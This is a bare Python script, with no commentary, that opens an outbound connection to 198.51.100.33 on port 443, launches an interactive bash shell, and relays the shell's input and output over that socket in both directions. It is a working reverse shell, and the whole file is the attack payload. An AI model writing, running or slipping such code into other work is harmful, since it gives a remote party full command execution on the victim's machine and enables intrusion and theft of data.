import socket, subprocess, threading

def pump(src, dst):
    while True:
        data = src.recv(1024) if hasattr(src, "recv") else src.read(1)
        if not data:
            break
        if hasattr(dst, "send"):
            dst.send(data)
        else:
            dst.write(data); dst.flush()

s = socket.create_connection(("198.51.100.33", 443))
p = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
threading.Thread(target=pump, args=(s, p.stdin), daemon=True).start()
pump(p.stdout, s)
